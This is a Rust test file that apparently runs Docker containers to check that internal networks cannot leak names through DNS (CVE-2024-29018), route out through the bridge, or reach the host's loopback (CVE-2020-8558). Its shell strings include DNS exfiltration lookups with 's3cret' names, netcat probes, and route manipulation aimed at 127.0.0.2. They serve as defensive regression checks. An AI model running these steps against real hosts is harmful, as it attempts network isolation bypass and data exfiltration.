//! What leaves a network that nothing should leave, and what comes to the host's own addresses.

use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};

use bollard::models::{
    ContainerCreateBody, HostConfig, NetworkConnectRequest, NetworkCreateRequest, NetworkDisconnectRequest,
};

use crate::attack::{Image, exec_shell, shell, start};
use crate::support::Yard;

/// A name server of the host's, on an address of its loopback: it knows every name, and remembers who was asked for.
struct Upstream {
    heard: Arc<Mutex<Vec<String>>>,
}

const UPSTREAM: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
const ANSWER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 77);

impl Upstream {
    fn new(yard: &Yard) -> Self {
        let heard = Arc::new(Mutex::new(Vec::new()));
        let (udp, tcp) = yard.in_network(|| {
            let at = SocketAddrV4::new(UPSTREAM, 53);
            (UdpSocket::bind(at).unwrap(), TcpListener::bind(at).unwrap())
        });
        let (by_udp, by_tcp) = (Arc::clone(&heard), Arc::clone(&heard));
        std::thread::spawn(move || {
            let mut query = [0; 1500];
            while let Ok((length, from)) = udp.recv_from(&mut query) {
                let query = &query[..length];
                by_udp.lock().unwrap().push(name_in(query));
                let _ = udp.send_to(&answered(query), from);
            }
        });
        std::thread::spawn(move || {
            for _ in tcp.incoming() {
                by_tcp.lock().unwrap().push("a connection".to_owned());
            }
        });
        Self { heard }
    }

    /// What was asked since the last time.
    fn heard(&self) -> Vec<String> {
        std::mem::take(&mut self.heard.lock().unwrap())
    }
}

/// The name that a query is about, with dots.
fn name_in(query: &[u8]) -> String {
    let (mut at, mut labels) = (12, Vec::new());
    while let Some(length) = query.get(at).copied().filter(|length| *length > 0).map(usize::from) {
        labels.push(String::from_utf8_lossy(&query[at + 1..at + 1 + length]).into_owned());
        at += 1 + length;
    }
    labels.join(".")
}

/// One A record, to whatever is asked (RFC 1035, 4.1).
fn answered(query: &[u8]) -> Vec<u8> {
    let mut answer = query[..2].to_vec();
    answer.extend([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
    let question = 12 + query[12..].iter().position(|byte| *byte == 0).unwrap() + 5;
    answer.extend(&query[12..question]);
    answer.extend([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
    answer.extend(ANSWER.octets());
    answer
}

async fn network(yard: &Yard, name: &str, internal: bool) {
    let request = NetworkCreateRequest { name: name.to_owned(), internal: Some(internal), ..Default::default() };
    yard.docker().create_network(request).await.unwrap();
}

/// A container that asks the upstream, as far as its network lets it.
fn asking(image: &str, network: &str) -> ContainerCreateBody {
    let host_config = HostConfig {
        network_mode: Some(network.to_owned()),
        dns: Some(vec![UPSTREAM.to_string()]),
        ..HostConfig::default()
    };
    ContainerCreateBody { host_config: Some(host_config), ..shell(image, "sleep 600") }
}

async fn knows(yard: &Yard, container: &str, name: &str) -> bool {
    let outcome = exec_shell(yard, container, &format!("busybox nslookup {name} 127.0.0.11 2>&1")).await;
    outcome.output.contains(&ANSWER.to_string())
}

/// CVE-2024-29018: names asked for on an internal network went to the host's name server, and secrets out with them.
#[tokio::test]
async fn an_internal_network_asks_nobody_outside() {
    let yard = Yard::new();
    let upstream = Upstream::new(&yard);
    let image = Image::new().import(&yard, "usual").await;
    network(&yard, "outward", false).await;
    network(&yard, "inward", true).await;
    start(&yard, "free", asking(&image, "outward")).await.unwrap();
    start(&yard, "kept", asking(&image, "inward")).await.unwrap();

    assert!(knows(&yard, "free", "control.example").await, "the name server is there and is asked");
    assert!(upstream.heard().iter().any(|name| name == "control.example"));
    for kind in ["a", "aaaa", "txt", "mx", "srv", "ptr", "any"] {
        let ask = format!("busybox nslookup -type={kind} s3cret.{kind}.example 127.0.0.11 2>&1");
        let outcome = exec_shell(&yard, "kept", &ask).await;
        assert!(!outcome.output.contains(&ANSWER.to_string()), "{kind}: {}", outcome.output);
    }
    assert!(!knows(&yard, "kept", "s3cret.example").await);
    // those that belong to nobody here are no way out, either
    assert!(!knows(&yard, "kept", "8.8.8.8").await);
    assert!(!knows(&yard, "kept", "free").await, "nor are the names of other networks known");
    exec_shell(&yard, "kept", &format!("busybox nslookup s3cret.example {UPSTREAM} 2>&1")).await;
    assert_eq!(upstream.heard(), [""; 0], "asked for by a container that should reach nobody");

    // it changes with the networks that it is on
    let connect = NetworkConnectRequest { container: "kept".to_owned(), ..Default::default() };
    yard.docker().connect_network("outward", connect).await.unwrap();
    assert!(knows(&yard, "kept", "let-out.example").await);
    let leave = NetworkDisconnectRequest { container: "kept".to_owned(), force: None };
    yard.docker().disconnect_network("outward", leave).await.unwrap();
    upstream.heard();
    assert!(!knows(&yard, "kept", "s3cret-again.example").await);
    assert_eq!(upstream.heard(), [""; 0]);
    end(yard).await;
}

/// A way out that the container makes itself: it may change its own routes, and the host forwards for others.
#[tokio::test]
async fn an_internal_network_is_not_left_by_a_route_of_its_own() {
    let yard = Yard::new();
    let image = Image::new().import(&yard, "usual").await;
    network(&yard, "outward", false).await;
    network(&yard, "inward", true).await;
    let on = |network: &str, script: &str| ContainerCreateBody {
        host_config: Some(HostConfig {
            network_mode: Some(network.to_owned()),
            cap_add: Some(vec!["NET_ADMIN".to_owned()]),
            ..HostConfig::default()
        }),
        ..shell(&image, script)
    };
    start(&yard, "server", on("outward", "while :; do echo reached | busybox nc -l -p 8000; done")).await.unwrap();
    start(&yard, "beside", on("outward", "sleep 600")).await.unwrap();
    start(&yard, "kept", on("inward", "sleep 600")).await.unwrap();
    let address = async |container: &str, network: &str| {
        let found = yard.docker().inspect_container(container, None).await.unwrap();
        found.network_settings.unwrap().networks.unwrap().remove(network).unwrap()
    };
    let server = address("server", "outward").await.ip_address.unwrap();
    let reach = format!("busybox nc -w 3 {server} 8000 < /dev/null 2>&1; echo ended");
    let wait = format!("until busybox nc -w 3 {server} 8000 < /dev/null 2>/dev/null | grep -q reached; do :; done");
    exec_shell(&yard, "beside", &wait).await;

    assert!(!exec_shell(&yard, "kept", &reach).await.output.contains("reached"), "without a route");
    // the bridge's own address is the network's first
    let own = address("kept", "inward").await.ip_address.unwrap().parse::<Ipv4Addr>().unwrap().octets();
    let bridge = format!("{}.{}.{}.1", own[0], own[1], own[2]);
    let routed = exec_shell(&yard, "kept", &format!("busybox ip route add default via {bridge} && echo routed")).await;
    assert_eq!(routed.output, "routed\n");
    assert!(!exec_shell(&yard, "kept", &reach).await.output.contains("reached"), "by a route through the bridge");
    end(yard).await;
}

/// CVE-2020-8558: services that listen on the host's loopback alone were reached from containers.
#[tokio::test]
async fn the_hosts_loopback_is_out_of_reach() {
    let yard = Yard::new();
    let image = Image::new().import(&yard, "usual").await;
    let upstream = Upstream::new(&yard);
    network(&yard, "outward", false).await;
    let host_config = HostConfig {
        network_mode: Some("outward".to_owned()),
        cap_add: Some(vec!["NET_ADMIN".to_owned()]),
        ..HostConfig::default()
    };
    let config = ContainerCreateBody { host_config: Some(host_config), ..shell(&image, "sleep 600") };
    start(&yard, "up", config).await.unwrap();
    // its own kernel would not send such a packet, unless its owner says so
    let script = format!(
        "busybox ip route show default | busybox cut -d' ' -f3 > /tmp/gateway; \
         busybox ip route del table local local 127.0.0.0/8 dev lo; \
         busybox ip addr del 127.0.0.1/8 dev lo; \
         busybox ip route add 127.0.0.2/32 via $(busybox cat /tmp/gateway) dev eth0 && echo routed; \
         busybox nslookup loopback.example {UPSTREAM} 2>&1; busybox nc -w 2 {UPSTREAM} 53 < /dev/null 2>&1; echo done"
    );
    let outcome = exec_shell(&yard, "up", &script).await;
    assert!(outcome.output.ends_with("done\n") && !outcome.output.contains(&ANSWER.to_string()), "{outcome:?}");
    assert_eq!(upstream.heard(), [""; 0], "{outcome:?}");
    end(yard).await;
}

async fn end(yard: Yard) {
    yard.remove_all_containers().await;
    for network in ["outward", "inward"] {
        let _ = yard.docker().remove_network(network).await;
    }
    yard.leaves_nothing_behind().await;
}
